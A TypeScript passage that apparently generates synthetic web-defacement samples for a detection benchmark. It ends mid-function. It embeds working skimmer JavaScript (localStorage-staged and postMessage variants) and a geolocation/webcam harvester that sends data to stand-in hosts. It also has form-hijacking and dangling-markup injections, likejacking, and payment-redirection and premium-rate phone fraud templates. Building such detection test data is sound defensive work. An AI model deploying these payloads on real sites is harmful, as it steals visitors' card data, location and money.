/**
 * Fresh8 defacement classes: written after fresh7, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers, HTML-injection techniques (formaction, form-attribute and
 * dangling-markup tricks), SEO spam, payment-redirection fraud, scam lures,
 * hacktivist and insider defacements, and hijacked-brand crypto promotions.
 * Each differs from every class in defacements.ts and fresh-defacements.ts
 * through fresh7-defacements.ts (not a re-wording of one) and varies its
 * templates, languages, domains, positions and sizes. Several touch only
 * attributes of the site's own forms, one lives only in a media query, and
 * several change only where a payment or a phone call goes. The writer had
 * no internet access: every source below is recalled from memory, with its
 * outlet and an approximate date, and its comment says so. Scored in the
 * `fresh8` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, elAt, evil, forms, head, lineAfter, occurrences, say, scriptSpot, setAttr, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet } from "./corpus.js"
import { b64, jsUrl } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import type { El } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh8 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh8", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`
const bare = (host: string) => host.replace(/^www\./, "")
/** Whether `el` sits inside an element named `name`. */
const within = (page: Page, el: El, name: string): El | undefined => {
  for (let e = elAt(page, el.parent); e !== undefined; e = elAt(page, e.parent)) if (e.name === name) return e
  return undefined
}
/** Shown controls that submit a form: submit buttons and submit or image inputs. */
const submitters = (page: Page): Array<El> =>
  page.spots.elements.filter((e) => e.shown && !e.inert && within(page, e, "form") !== undefined && (
    (e.name === "button" && !/^(button|reset)$/i.test(e.attribs.type ?? "submit")) ||
    (e.name === "input" && /^(submit|image)$/i.test(e.attribs.type ?? ""))))

// The HTML5 `formaction` attribute as an injection vector, recalled from memory of html5sec.org (Mario Heiderich, about 2011) and the OWASP HTML5 Security Cheat Sheet: an attribute on a submit button overrides its form's action, so the form tag still names the site while the button sends everything elsewhere.
const formactionHijack = fresh8("submit buttons given a formaction that sends the form to another host", (page, rng) => {
  const url = `https://${evil(rng, page)}/${pick(rng, ["collect.php", "f/" + alnum(rng, 6), "api/lead", "submit", "wp-json/x/" + alnum(rng, 4)])}`
  const bs = submitters(page)
  const chosen = chance(rng, 0.5) ? bs : sample(rng, bs, Math.max(1, Math.ceil(bs.length / 2)))
  const out: Array<Splice> = chosen.flatMap((b) => [setAttr(page, b, "formaction", url), ...(chance(rng, 0.5) ? [setAttr(page, b, "formmethod", "post")] : [])])
  if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<form><input name="q"> <button formaction="${url}">OK</button></form>`))
  return { splices: out }
})

// The HTML5 `form` attribute, recalled from memory of html5sec.org and "Scriptless Attacks" (Heiderich, Niemietz, Schuster, Holz, Schwenk, ACM CCS 2012): a control can belong to any form in the document by id, so an injected empty form elsewhere on the page quietly takes over the fields and buttons of the site's own forms.
const formAttrHijack = fresh8("site's form fields reassigned by form= to an injected empty form posting elsewhere", (page, rng) => {
  const id = pick(rng, ["f", "frm", "nf", "wpforms-" + digits(rng, 3), alnum(rng, 6)])
  const url = `https://${evil(rng, page)}/${pick(rng, ["s.php", "post", "leads/" + alnum(rng, 5), "mail.php"])}`
  const owned = new Set(forms(page).map((f) => f.index))
  const controls = page.spots.elements.filter((e) => {
    if (!e.shown || e.inert || !/^(input|button|select)$/.test(e.name)) return false
    const f = within(page, e, "form")
    return f !== undefined && owned.has(f.index) && !/^(hidden|reset|checkbox|radio|file)$/i.test(e.attribs.type ?? "")
  })
  const out: Array<Splice> = controls.map((c) => setAttr(page, c, "form", id))
  out.push(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom")]), `<form id="${id}" action="${url}" method="post"></form>`))
  return { splices: out }
})

// Dangling-markup injection, recalled from memory of Michał Zalewski's "Postcards from the post-XSS world" (2011) and PortSwigger's Web Security Academy pages on it (about 2020): an injected tag with an unclosed quote turns everything up to the next quote (a form, its token, an e-mail field) into part of a URL the browser requests from another host.
const danglingMarkup: ChangeClass = { ...fresh8("dangling-markup injection: an unclosed attribute swallowing the next form into a URL", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const q = pick(rng, ["'", "'", "\""])
  const tag = pick(rng, [
    `<img src=${q}https://${host}/${pick(rng, ["l", "log", "i.gif"])}?d=`,
    `<img src=${q}//${host}/?`,
    `<table background=${q}https://${host}/bg?`,
    `<a href=${q}https://${host}/r?u=`
  ])
  const f = forms(page)[0]
  return splices(insert(f !== undefined && chance(rng, 0.8) ? f.start : pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top")]), tag))
}), swallows: true }

// Skimmers that stage what they steal in the browser and send it later, recalled from memory with uncertain details of Malwarebytes Labs and Trustwave SpiderLabs write-ups (about 2019–2021): captured checkout fields kept in localStorage or a cookie and sent in one request on a later page view (often the order-success page), so nothing leaves while the form is filled in.
const stagedSkimmer = fresh8("skimmer stashing form fields in localStorage and sending them on a later page view", (page, rng) => {
  const key = pick(rng, ["_gat_cache", "mage-cache-sessid", "wc_cart_hash_" + hex(rng, 6), "__ls_" + alnum(rng, 4), "persist:root"])
  const sink = `https://${pick(rng, [libLookalike(rng), randomDomain(rng)])}/${pick(rng, ["img/pixel.gif", "g.php", "api/v2/s", "track"])}`
  const code = `(function(){var K="${key}";document.addEventListener("change",function(e){var t=e.target;if(!t||!t.name)return;var o={};try{o=JSON.parse(localStorage.getItem(K)||"{}")}catch(x){}o[t.name]=t.value;localStorage.setItem(K,JSON.stringify(o))},true);var s=localStorage.getItem(K);if(s&&${pick(rng, [`/success|thank|confirm|bedankt|merci|danke|gracias/i.test(location.href)`, `s.length>${between(rng, 40, 120)}`, `Math.random()<0.5`])}){new Image().src=${jsUrl(rng, sink)}+"?h="+location.host+"&d="+encodeURIComponent(btoa(s));localStorage.removeItem(K)}})();`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Skimmers that hand data to a frame instead of making requests themselves, recalled from memory with uncertain attribution (security-vendor posts on Magecart variants, about 2020–2023, and the long-standing postMessage abuse described in OWASP's HTML5 cheat sheet): a hidden iframe from the attacker's host receives the form fields by window.postMessage, so the page's own scripts never call out.
const postMessageSkimmer = fresh8("skimmer posting form fields by postMessage to a hidden frame from another host", (page, rng) => {
  const origin = `https://${pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])}`
  const id = pick(rng, ["_pf", "gtm-frame", "fb-root-" + digits(rng, 3), alnum(rng, 5)])
  const frame = `<iframe id="${id}" src="${origin}/${pick(rng, ["frame.html", "sync", "widget/" + alnum(rng, 6)])}" ${pick(rng, [`style="display:none"`, `width="0" height="0" frameborder="0" style="position:absolute;left:-9999px"`, `hidden`])}></iframe>`
  const code = `(function(){var F=document.getElementById("${id}");document.addEventListener("${pick(rng, ["submit", "change", "blur"])}",function(){var o={};[].forEach.call(document.querySelectorAll("input,select"),function(i){if(i.value&&i.type!=="hidden")o[i.name||i.id]=i.value});if(F&&F.contentWindow)F.contentWindow.postMessage(JSON.stringify({h:location.host,d:o}),"*")},true)})();`
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), top(page)]), frame + wrapScript(rng, code)))
})

const geoWords: Record<Lang, readonly [string, string]> = {
  en: ["Allow location access to see offers near you", "Allow"],
  fr: ["Autorisez la localisation pour voir les offres près de chez vous", "Autoriser"],
  de: ["Erlauben Sie den Standortzugriff, um Angebote in Ihrer Nähe zu sehen", "Erlauben"],
  es: ["Permita el acceso a su ubicación para ver ofertas cerca de usted", "Permitir"],
  nl: ["Sta locatietoegang toe om aanbiedingen bij u in de buurt te zien", "Toestaan"],
  pt: ["Permita o acesso à localização para ver ofertas perto de você", "Permitir"],
  it: ["Consenti l'accesso alla posizione per vedere le offerte vicino a te", "Consenti"]
}

// Phishing pages that ask the browser for the visitor's location or camera, recalled from memory of the open-source "Seeker" (thewhiteh4t, GitHub, about 2019) and "CamPhish" (about 2020) tools and news reports of their use against journalists and activists: an innocent pretext, the browser's permission prompt, and the coordinates or a webcam frame sent to another host.
const permissionHarvest = fresh8("script asking for the visitor's location or camera and sending it to another host", (page, rng) => {
  const sink = `https://${pick(rng, [randomDomain(rng), `${alnum(rng, 8)}.${pick(rng, ["ngrok.io", "ngrok-free.app", "trycloudflare.com", "serveo.net"])}`])}/${pick(rng, ["result.php", "loc", "api/data", "upload"])}`
  const geo = `navigator.geolocation&&navigator.geolocation.getCurrentPosition(function(p){fetch(${jsUrl(rng, sink)},{method:"POST",mode:"no-cors",body:JSON.stringify({lat:p.coords.latitude,lon:p.coords.longitude,acc:p.coords.accuracy,ua:navigator.userAgent,h:location.host})})},function(){},{enableHighAccuracy:true});`
  const cam = `navigator.mediaDevices&&navigator.mediaDevices.getUserMedia({video:true}).then(function(s){var v=document.createElement("video");v.srcObject=s;v.play();setTimeout(function(){var c=document.createElement("canvas");c.width=640;c.height=480;c.getContext("2d").drawImage(v,0,0,640,480);fetch(${jsUrl(rng, sink)},{method:"POST",mode:"no-cors",body:c.toDataURL("image/jpeg")})},${between(rng, 1500, 4000)})});`
  const code = chance(rng, 0.65) ? geo : chance(rng, 0.5) ? cam : geo + cam
  const [text, button] = siteOr(rng, page, geoWords)
  const id = alnum(rng, 5)
  const visible = chance(rng, 0.6)
  const html = visible
    ? `<div class="${pick(rng, ["geo-prompt", "nearby", "notice"])}" style="padding:10px 14px;margin:10px 0;background:#e8f0fe;border:1px solid #a9c1f5">📍 ${esc(text)} <button id="${id}" type="button">${esc(button)}</button></div>${wrapScript(rng, `document.getElementById("${id}").onclick=function(){${code}};`)}`
    : wrapScript(rng, `setTimeout(function(){${code}},${between(rng, 500, 5000)});`)
  return splices(insert(visible ? pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]) : scriptSpot(rng, page), html))
})

// Likejacking, recalled from memory of Sophos Naked Security's reports (2010–2011) and Facebook's later clickjacking protections: a transparent social "Like" or "Follow" frame kept under the mouse pointer by a script, so the visitor's next click anywhere on the page likes or follows an account they never saw.
const likejacking = fresh8("transparent Like or Follow frame kept under the mouse pointer (likejacking)", (page, rng) => {
  const acct = `${pick(rng, ["crypto", "deals", "news", "promo", "viral"])}${pick(rng, ["_", ".", ""])}${alnum(rng, 6)}`
  const src = pick(rng, [
    `https://www.facebook.com/plugins/like.php?href=${encodeURIComponent(`https://www.facebook.com/${acct}`)}&amp;layout=button&amp;action=like&amp;size=small&amp;width=61&amp;height=20`,
    `https://platform.twitter.com/widgets/follow_button.html?screen_name=${acct.replace(/\./g, "_")}&amp;show_screen_name=false&amp;show_count=false`,
    `https://www.facebook.com/plugins/follow.php?href=${encodeURIComponent(`https://www.facebook.com/${acct}`)}&amp;layout=button&amp;width=80&amp;height=20`
  ])
  const id = pick(rng, ["lk", "fbl", "_c", alnum(rng, 5)])
  const frame = `<div id="${id}" style="position:absolute;top:0;left:0;width:${between(rng, 40, 90)}px;height:${between(rng, 18, 30)}px;overflow:hidden;opacity:${pick(rng, ["0", "0.0", "0.01", "0.001"])};z-index:${zIndex(rng)}"><iframe src="${src}" width="${between(rng, 60, 90)}" height="${between(rng, 20, 30)}" scrolling="no" frameborder="0" style="border:none;overflow:hidden"></iframe></div>`
  const code = `document.addEventListener("mousemove",function(e){var d=document.getElementById("${id}");if(d){d.style.left=(e.pageX-${between(rng, 10, 30)})+"px";d.style.top=(e.pageY-${between(rng, 5, 12)})+"px"}});`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), frame + wrapScript(rng, code)))
})

// Scrolling window titles on defacement pages, recalled from memory of the mirrors kept by Zone-H and similar archives (2000s–2020s), many of which run the old Dynamic Drive "scrolling title" snippet: the browser tab keeps cycling the defacer's line while the page itself may look untouched.
const scrollingTitle = fresh8("window title made to scroll the defacer's message by a script", (page, rng) => {
  const who = chance(rng, 0.6) ? nick(rng) : team(rng)
  const msg = pick(rng, [() => signature(rng, who).text, () => `${signature(rng, who).text} ~ ${boast(rng).text}`, () => `${political(rng).text} ~ ${who}`])()
  const padded = JSON.stringify(`${pick(rng, [" ::: ", " *** ", " ~~ ", " .:. ", "  "])}${msg}${pick(rng, [" ::: ", " *** ", " ~~ ", " .:. ", "  "])}`)
  const code = pick(rng, [
    `var m=${padded},i=0;setInterval(function(){document.title=m.substring(i)+m.substring(0,i);i=(i+1)%m.length},${between(rng, 100, 300)});`,
    `(function t(){var m=${padded};document.title=m;setTimeout(function s(){m=m.substring(1)+m.charAt(0);document.title=m;setTimeout(s,${between(rng, 120, 250)})},${between(rng, 120, 250)})})();`,
    `var m=${padded},n=0;setInterval(function(){n=(n+1)%(m.length+1);document.title=m.substring(0,n)||"_"},${between(rng, 80, 200)});`
  ])
  return splices(insert(pick(rng, [head(page), head(page), top(page), bottom(page)]), wrapScript(rng, code)))
})

// Mobile-only infections, recalled from memory of Sucuri's blog posts on malware that redirected or defaced only for smartphone visitors (about 2014–2019) so that site owners checking from a desktop saw nothing: here without any script, a message block that a CSS media query reveals only on phone-sized screens.
const mobileOnlyOverlay = fresh8("defacer's message revealed only on phone-sized screens by a CSS media query", (page, rng) => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  const cls = pick(rng, ["m-only", "mob-notice", "wp-mobile-" + alnum(rng, 4), alnum(rng, 6)])
  const msg = pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text])()
  const block = `<div class="${cls}"><h1>${esc(msg)}</h1><p>${esc(who)}</p></div>`
  const max = pick(rng, [480, 640, 767, 768, 820])
  const css = `.${cls}{display:none}@media ${pick(rng, [`(max-width:${max}px)`, `only screen and (max-width:${max}px)`, `(pointer:coarse) and (max-width:${max}px)`])}{.${cls}{display:block;position:fixed;inset:0;z-index:${zIndex(rng)};background:${pick(rng, ["#000", "#111", "#300"])};color:${pick(rng, ["#0f0", "#fff", "#f33"])};text-align:center;padding-top:30vh}${chance(rng, 0.5) ? `body>*:not(.${cls}){display:none!important}` : ""}}`
  const style = `<style>${css}</style>`
  return chance(rng, 0.5)
    ? splices(insert(head(page), style), insert(pick(rng, [top(page), bottom(page)]), block))
    : splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), style + block))
})

const insiderWords: Record<Lang, readonly [string, (b: string, y: number) => string, string]> = {
  en: ["A message from a former employee", (b, y) => `After ${y} years at ${b} I was let go by e-mail, with two months' wages still unpaid. Customers deserve to know how this company treats the people who built it. Don't believe the management's promises.`, "I still had the password. Goodbye."],
  fr: ["Message d'un ancien salarié", (b, y) => `Après ${y} ans chez ${b}, j'ai été licencié par e-mail, avec deux mois de salaire toujours impayés. Les clients doivent savoir comment cette entreprise traite ceux qui l'ont construite. Ne croyez pas les promesses de la direction.`, "J'avais encore le mot de passe. Adieu."],
  de: ["Eine Nachricht eines ehemaligen Mitarbeiters", (b, y) => `Nach ${y} Jahren bei ${b} wurde ich per E-Mail entlassen, zwei Monatsgehälter sind bis heute nicht bezahlt. Die Kunden sollen wissen, wie diese Firma mit den Menschen umgeht, die sie aufgebaut haben. Glauben Sie der Geschäftsführung kein Wort.`, "Das Passwort hatte ich noch. Tschüss."],
  es: ["Un mensaje de un antiguo empleado", (b, y) => `Después de ${y} años en ${b} me despidieron por correo electrónico, con dos meses de sueldo aún sin pagar. Los clientes merecen saber cómo trata esta empresa a quienes la construyeron. No crean las promesas de la dirección.`, "Todavía tenía la contraseña. Adiós."],
  nl: ["Een bericht van een oud-medewerker", (b, y) => `Na ${y} jaar bij ${b} ben ik per e-mail ontslagen, met twee maanden salaris nog altijd onbetaald. Klanten verdienen te weten hoe dit bedrijf omgaat met de mensen die het hebben opgebouwd. Geloof de beloften van de directie niet.`, "Ik had het wachtwoord nog. Dag."],
  pt: ["Uma mensagem de um ex-funcionário", (b, y) => `Depois de ${y} anos na ${b}, fui demitido por e-mail, com dois meses de salário ainda sem pagar. Os clientes merecem saber como esta empresa trata quem a construiu. Não acreditem nas promessas da diretoria.`, "Eu ainda tinha a senha. Adeus."],
  it: ["Un messaggio da un ex dipendente", (b, y) => `Dopo ${y} anni in ${b} sono stato licenziato via e-mail, con due mesi di stipendio ancora non pagati. I clienti meritano di sapere come questa azienda tratta chi l'ha costruita. Non credete alle promesse della direzione.`, "Avevo ancora la password. Addio."]
}

// Insider defacements, recalled from memory of US Department of Justice press releases on former IT staff and web developers convicted for sabotaging or defacing their employers' sites after being dismissed (about 2015–2022) and the CERT Insider Threat Center's case studies: a grievance in the site's own language, signed by a former employee, at the top of the site.
const insiderGrievance = fresh8("former employee's grievance against the company posted at the top of the site", (page, rng) => {
  const [h, body, end] = say(page, insiderWords)
  const who = pick(rng, ["M. K.", "J. Dubois", "S. Hartmann", "L. García", "P. de Vries", "A. Rossi", "T. Nguyen", "R. Silva"])
  const role = pick(rng, ["web developer", "IT", "webmaster", "office manager", "marketing"])
  const block = `<div class="${pick(rng, ["notice", "message", "announcement", "alert"])}" style="${pick(rng, ["background:#fff3cd;border:2px solid #856404", "background:#222;color:#fff", "border:3px solid #c00"])};padding:16px;margin:10px 0"><h2>${esc(h)}</h2><p>${esc(body(brandName(page), between(rng, 3, 19)))}</p><p><em>${esc(end)} — ${esc(who)} (${esc(role)})</em></p></div>`
  const out: Array<Splice> = [insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page)]), block)]
  if (page.spots.title !== null && chance(rng, 0.25)) out.push(insert(page.spots.title.start, `${esc(h)} | `))
  return { splices: out }
})

// Law-enforcement seizure splash pages, recalled from memory of the banners the FBI, Europol and the UK's NCA put on seized domains (Operation Cronos against LockBit, February 2024; Operation Endgame, May 2024) and of pranksters and rival crews who put look-alike "seized" banners on sites they had broken into (reported in security news, uncertain dates): the site is claimed to be seized, with agency names, a case number and a statute.
const seizureBanner = fresh8("fake 'this domain has been seized' law-enforcement banner over the page", (page, rng) => {
  const agencies = pick(rng, [["Federal Bureau of Investigation", "Europol", "National Crime Agency"], ["FBI", "Department of Justice", "Homeland Security Investigations"], ["Europol", "Eurojust", "Bundeskriminalamt"], ["National Crime Agency", "Metropolitan Police"], ["Gendarmerie nationale", "Europol"]] as const)
  const op = pick(rng, ["Operation Cronos", "Operation Endgame", "Operation " + pick(rng, ["Duck Hunt", "Talon", "Magnus", "PowerOFF", "Morpheus", "Nightfall"])])
  const law = pick(rng, ["18 U.S.C. §§ 981 and 1030", "Section 1 of the Computer Misuse Act 1990", "Art. 323-1 du Code pénal", "§ 202a StGB"])
  const block = `<div class="${pick(rng, ["seized", "seizure", "le-banner"])}" style="position:fixed;inset:0;z-index:${zIndex(rng)};${pick(rng, ["background:#0b1e3a;color:#fff", "background:#111;color:#eee", "background:#fff;color:#111"])};text-align:center;padding:8vh 6vw;font-family:Arial,sans-serif"><p>${agencies.map((a) => `<strong>${esc(a)}</strong>`).join(" · ")}</p><h1>${pick(rng, ["THIS DOMAIN HAS BEEN SEIZED", "THIS WEBSITE HAS BEEN SEIZED", "This site is now under the control of law enforcement"])}</h1><p>${esc(`as part of a coordinated law enforcement action (${op}) pursuant to a seizure warrant issued under ${law}. Case no. ${upper(rng, 2)}-${digits(rng, 4)}-${digits(rng, 5)}.`)}</p><p>${pick(rng, ["Visitors' IP addresses have been logged.", "Information about users of this site is being reviewed.", "If you have information about this site, contact the investigators."])}</p></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), block))
})

// Defacement pages that show visitors their own address, recalled from memory of defacement mirrors and intimidation pages that call a public IP-lookup API (ipapi.co, ipinfo.io, ip-api.com) and print "Your IP is … we know where you are" beside the crew's name (reported on Zone-H mirrors and in hosting forums, 2010s–2020s).
const ipIntimidation = fresh8("'we know who you are' overlay printing the visitor's IP and city from a lookup API", (page, rng) => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  const id = pick(rng, ["ip", "you", alnum(rng, 4)])
  const api = pick(rng, [["https://ipapi.co/json/", "j.ip+' — '+j.city+', '+j.country_name+' ('+j.org+')'"], ["https://ipinfo.io/json", "j.ip+' — '+j.city+', '+j.country+' ('+j.org+')'"], ["https://api.ipify.org?format=json", "j.ip"]] as const)
  const line = pick(rng, ["We know who you are.", "We are watching you.", "Your IP has been logged.", "Smile, you are on camera."])
  const block = `<div style="position:fixed;${pick(rng, ["inset:0", "left:0;right:0;bottom:0"])};z-index:${zIndex(rng)};background:rgba(0,0,0,.9);color:${pick(rng, ["#0f0", "#f00", "#fff"])};font-family:monospace;text-align:center;padding:${pick(rng, ["25vh 5vw", "20px"])}"><h1>${esc(line)}</h1><p>IP: <span id="${id}">…</span></p><p>${esc(signature(rng, who).text)}</p></div>`
  const code = `fetch("${api[0]}").then(function(r){return r.json()}).then(function(j){document.getElementById("${id}").textContent=${api[1]}});`
  return splices(insert(pick(rng, [top(page), bottom(page)]), block + wrapScript(rng, code)))
})

const currencyOf: Record<string, string> = { us: "USD", uk: "GBP", au: "AUD", in: "INR", br: "BRL" }

// Donation buttons whose recipient is hidden in the form, recalled from memory of PayPal's "Donate button" HTML (a form posting to paypal.com with a hidden `business` e-mail or `hosted_button_id`) and of reports of charity and church sites whose donate buttons were quietly pointed at another account (local news and Sucuri posts, 2010s): everything shown says PayPal and the site; only a hidden field names who gets the money.
const hiddenDonateRecipient = fresh8("PayPal or Stripe donate button added whose hidden recipient is someone else's account", (page, rng) => {
  const b = page.site.brand.replace(/-/g, "")
  const email = pick(rng, [`${b}.donations@gmail.com`, `donate.${b}${digits(rng, 2)}@outlook.com`, `${b}-foundation@protonmail.com`, `payments@${brandLookalike(rng, page.site.brand)}`])
  const label = page.site.words.donate
  const cur = currencyOf[page.site.locale.country] ?? "EUR"
  const button = pick(rng, [
    `<form action="https://www.paypal.com/donate" method="post" target="_top"><input type="hidden" name="business" value="${esc(email)}"><input type="hidden" name="no_recurring" value="0"><input type="hidden" name="item_name" value="${esc(`${label} – ${brandName(page)}`)}"><input type="hidden" name="currency_code" value="${cur}"><input type="image" src="https://www.paypalobjects.com/en_US/i/btn/btn_donateCC_LG.gif" name="submit" title="PayPal - The safer, easier way to pay online!" alt="Donate with PayPal button"></form>`,
    `<form action="https://www.paypal.com/donate" method="post" target="_top"><input type="hidden" name="hosted_button_id" value="${upper(rng, 4)}${digits(rng, 2)}${upper(rng, 7)}"><input type="image" src="https://www.paypalobjects.com/${pick(rng, ["en_US", "de_DE", "fr_FR", "nl_NL", "es_ES", "it_IT"])}/i/btn/btn_donate_LG.gif" name="submit" alt="${esc(label)}"></form>`,
    `<p><a class="button" href="https://buy.stripe.com/${alnum(rng, 14)}" target="_blank">💳 ${esc(label)}</a></p>`,
    `<p><a href="https://www.paypal.com/donate/?hosted_button_id=${upper(rng, 4)}${digits(rng, 3)}${upper(rng, 6)}"><img src="https://www.paypalobjects.com/en_US/i/btn/btn_donate_SM.gif" alt="${esc(label)}"></a></p>`
  ])
  const block = `<div class="${pick(rng, ["donate", "support-us", "paypal-donations"])}"><p><strong>${esc(label)}</strong></p>${button}</div>`
  const f = forms(page)[0]
  const at = f !== undefined && chance(rng, 0.7) ? f.start : pick(rng, [slotAt(page.spots, "bottom"), anySlot(rng, page.spots)])
  return splices(insert(at, block))
})

const mandateWords: Record<Lang, readonly [string, (d: string, acct: string) => string, string]> = {
  en: ["Important: our bank details have changed", (d, a) => `From ${d}, please make all payments to our new account: ${a}. Payments to the old account can no longer be credited. Please update your records.`, "new"],
  fr: ["Important : nos coordonnées bancaires ont changé", (d, a) => `À partir du ${d}, merci d'effectuer tous vos paiements sur notre nouveau compte : ${a}. Les virements vers l'ancien compte ne pourront plus être crédités.`, "nouveau"],
  de: ["Wichtig: Unsere Bankverbindung hat sich geändert", (d, a) => `Ab dem ${d} überweisen Sie bitte ausschließlich auf unser neues Konto: ${a}. Zahlungen auf das alte Konto können nicht mehr zugeordnet werden.`, "neu"],
  es: ["Importante: hemos cambiado de cuenta bancaria", (d, a) => `A partir del ${d}, realice todos los pagos en nuestra nueva cuenta: ${a}. Los pagos a la cuenta anterior ya no podrán abonarse.`, "nueva"],
  nl: ["Belangrijk: ons rekeningnummer is gewijzigd", (d, a) => `Vanaf ${d} verzoeken wij u alle betalingen te doen op onze nieuwe rekening: ${a}. Betalingen op de oude rekening kunnen niet meer worden verwerkt.`, "nieuw"],
  pt: ["Importante: nossos dados bancários mudaram", (d, a) => `A partir de ${d}, faça todos os pagamentos na nossa nova conta: ${a}. Pagamentos na conta antiga não poderão mais ser creditados.`, "nova"],
  it: ["Importante: le nostre coordinate bancarie sono cambiate", (d, a) => `Dal ${d} vi preghiamo di effettuare tutti i pagamenti sul nostro nuovo conto: ${a}. I pagamenti sul vecchio conto non potranno più essere accreditati.`, "nuovo"]
}

// Mandate fraud ("change of bank details" fraud), recalled from memory of UK Finance's annual fraud reports and Action Fraud warnings (2017–2024) and the FBI IC3's business e-mail compromise PSAs: customers are told a supplier's account has changed and asked to pay the new one. Here the notice on the supplier's own site, with the old account struck through where the page shows it.
const mandateFraud = fresh8("'our bank details have changed' notice with a new account, the old one struck through", (page, rng) => {
  const [h, p, tag] = say(page, mandateWords)
  let fresh = makeBank(rng, page.site.locale)
  for (let i = 0; i < 5 && fresh !== null && page.ids.bank !== null && fresh.value === page.ids.bank.value; i++) fresh = makeBank(rng, page.site.locale)
  const acct = fresh === null ? `IBAN GB${digits(rng, 2)} ${upper(rng, 4)} ${digits(rng, 4)} ${digits(rng, 4)} ${digits(rng, 4)} ${digits(rng, 2)}` : fresh.kind === "iban" ? `IBAN ${fresh.value}` : fresh.value
  const out: Array<Splice> = []
  if (page.ids.bank !== null) for (const r of occurrences(page, page.ids.bank.value)) out.push(replace(r, `<s>${esc(page.ids.bank.value)}</s> <strong>${esc(acct)}</strong> (${esc(tag)})`))
  if (out.length === 0 || chance(rng, 0.6)) {
    const when = page.site.locale.date(someDate(rng))
    out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["notice", "alert", "important"])}" style="border:2px solid #b00;padding:12px 16px;margin:10px 0"><h3>⚠ ${esc(h)}</h3><p>${esc(p(when, acct))}</p></div>`))
  }
  return { splices: out }
})

const premiumFor = (rng: Rng, country: string): readonly [string, string] => {
  const d = (n: number) => digits(rng, n)
  switch (country) {
    case "uk": return [`0906 ${d(3)} ${d(4)}`, "Calls cost £3.60 per minute plus your phone company's access charge. This is a call connection service."]
    case "us": return [`1-900-${d(3)}-${d(4)}`, "$4.99 per minute, billed to your phone account. Independent call routing service."]
    case "fr": return [`08 99 ${d(2)} ${d(2)} ${d(2)}`, "Service 0,80 €/min + prix appel. Service de mise en relation."]
    case "de": return [`0900 ${d(4)} ${d(3)}`, "3,99 €/Min. aus dem dt. Festnetz, Mobilfunk abweichend. Vermittlungsdienst."]
    case "es": return [`806 ${d(3)} ${d(3)}`, "Coste máximo 1,21 €/min desde fijos y 1,57 €/min desde móviles. Servicio de conexión."]
    case "nl": return [`0900-${d(4)}`, "€ 1,00 per minuut + gebruikelijke belkosten. Doorschakeldienst."]
    case "it": return [`899 ${d(3)} ${d(3)}`, "Costo 2,00 €/min IVA incl. da rete fissa. Servizio di connessione."]
    case "au": return [`1900 ${d(3)} ${d(3)}`, "Calls cost $5.45/min incl. GST, higher from mobiles."]
    case "br": return [`0900 ${d(3)} ${d(4)}`, "R$ 4,99/min + impostos. Serviço de conexão."]
    default: return [`+44 906 ${d(3)} ${d(4)}`, "Premium rate: calls cost £3.60 per minute plus access charge."]
  }
}

// Premium-rate "call connection" numbers, recalled from memory of Ofcom and the Phone-paid Services Authority's action against call-connection services (2014–2019) and the Bundesnetzagentur's 0900 rules: a premium number presented as a company's or a public body's line, which forwards the call and bills several pounds or euros a minute. Here it sits right under the site's real phone line.
const premiumLine = fresh8("premium-rate 'call connection' number placed under the site's phone line", (page, rng) => {
  const [num, small] = premiumFor(rng, page.site.locale.country)
  const label = pick(rng, [`${brandName(page)} ${pick(rng, ["priority line", "direct line", "customer line", "fast-track line"])}`, page.site.words.phone + " (24/7)", `${pick(rng, ["Speak to an advisor now", "No waiting", "Open 24/7"])}`])
  const text = `${esc(label)}: <a href="tel:${num.replace(/[^0-9+]/g, "")}">${esc(num)}</a> <small>${esc(small)}</small>`
  const line = lineAfter(page, page.ids.phone.national)
  return splices(line !== null ? insert(line.at, line.wrap(text)) : insert(anySlot(rng, page.spots), `<p>${text}</p>`))
})

const careBrands = ["Delta Airlines", "American Airlines", "Southwest Airlines", "Spirit Airlines", "Coinbase", "Cash App", "QuickBooks", "Outlook", "Facebook", "Binance", "Norton", "McAfee", "Geek Squad", "Expedia", "Trust Wallet", "Lufthansa", "Air France", "KLM"]

// Fake customer-service numbers for big brands, recalled from memory of reports (about 2019–2023, e.g. BBC and security blogs) on hacked university, government and forum pages stuffed with lines such as "Delta Airlines reservations number +1-8xx…" or "Coinbase support phone number" so that searches for a company's helpline land on scammers who answer as the company.
const careNumberSpam = fresh8("fake customer-service numbers for airlines, banks and apps as SEO spam", (page, rng) => {
  const num = `+1-8${pick(rng, ["00", "33", "44", "55", "66", "77", "88"])}-${digits(rng, 3)}-${digits(rng, 4)}`
  const site = `https://${pick(rng, [`sites.google.com/view/${alnum(rng, 10)}`, randomDomain(rng), `${pick(rng, ["support", "help", "care"])}-${alnum(rng, 5)}.${pick(rng, ["blogspot.com", "webflow.io", "medium.com", "wixsite.com"])}`])}`
